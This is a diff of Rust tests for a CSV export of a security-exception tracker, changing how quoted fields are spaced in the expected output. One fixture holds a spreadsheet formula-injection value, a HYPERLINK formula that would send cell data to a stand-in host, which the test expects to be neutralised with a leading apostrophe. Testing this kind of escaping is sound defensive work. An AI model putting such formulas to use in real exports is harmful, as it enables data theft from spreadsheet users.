@@ -551,11 +551,12 @@ fn export_import_export_keeps_every_byte() {
     let lines: Vec<&str> = exported.lines().collect();
     assert_eq!(lines[0], HEADER);
     assert_eq!(lines.len(), 25, "the header and the 24 starter exceptions");
-    // The common form: a space after each comma, quotes only where a value holds a comma.
-    // Description is the title; Notes the justification's first paragraph.
+    // The common form: a space after each comma, quotes only where a value holds a comma,
+    // and opening right after it, the space inside. Description is the title; Notes the
+    // justification's first paragraph.
     assert_eq!(
         lines[1],
-        "High, Approved, 1/20/2025, Risk extension, Unpatched legacy ERP application servers expose finance data to known exploits, Helen Brooks, Martin Feld and Elena Petrova, SEC-1012, \"The vendor only ships the fixes in the next major release, and moving to it needs a full regression run of month-end close. Finance cannot take an untested release into year-end close and the external audit fieldwork. The upgrade is planned for the first window after fieldwork ends.\""
+        "High, Approved, 1/20/2025, Risk extension, Unpatched legacy ERP application servers expose finance data to known exploits, Helen Brooks, Martin Feld and Elena Petrova, SEC-1012,\" The vendor only ships the fixes in the next major release, and moving to it needs a full regression run of month-end close. Finance cannot take an untested release into year-end close and the external audit fieldwork. The upgrade is planned for the first window after fieldwork ends.\""
     );
 
     // The standard output and the built site hold the same bytes.
@@ -600,7 +601,7 @@ fn export_counts_exceptions_whatever_their_cells_hold() {
         &["export", "tracker", "site", "--audience", "security"],
     );
     assert_code(&out, 0);
-    assert!(String::from_utf8_lossy(&out.stdout).contains("\"SEC-1012\nSEC-1013\""));
+    assert!(String::from_utf8_lossy(&out.stdout).contains(",\" SEC-1012\nSEC-1013\","));
     let said = String::from_utf8_lossy(&out.stderr);
     assert!(said.contains("exported 24 exception(s)"), "{said}");
 }
@@ -654,8 +655,8 @@ approvals:
     let exported = String::from_utf8_lossy(&out.stdout).into_owned();
     assert_eq!(
         exported.lines().nth(1).unwrap(),
-        "Low, Approved, 1/2/2026, Accept risk without fix, \
-         \"'=HYPERLINK(\"\"http://x.example/?\"\"&A1, \"\"Click\"\")\", \
+        "Low, Approved, 1/2/2026, Accept risk without fix,\
+         \" '=HYPERLINK(\"\"http://x.example/?\"\"&A1, \"\"Click\"\")\", \
          '@Ops Lead, ''=Bob, '+SEC-1, '-2+3 is not a formula here"
     );
 
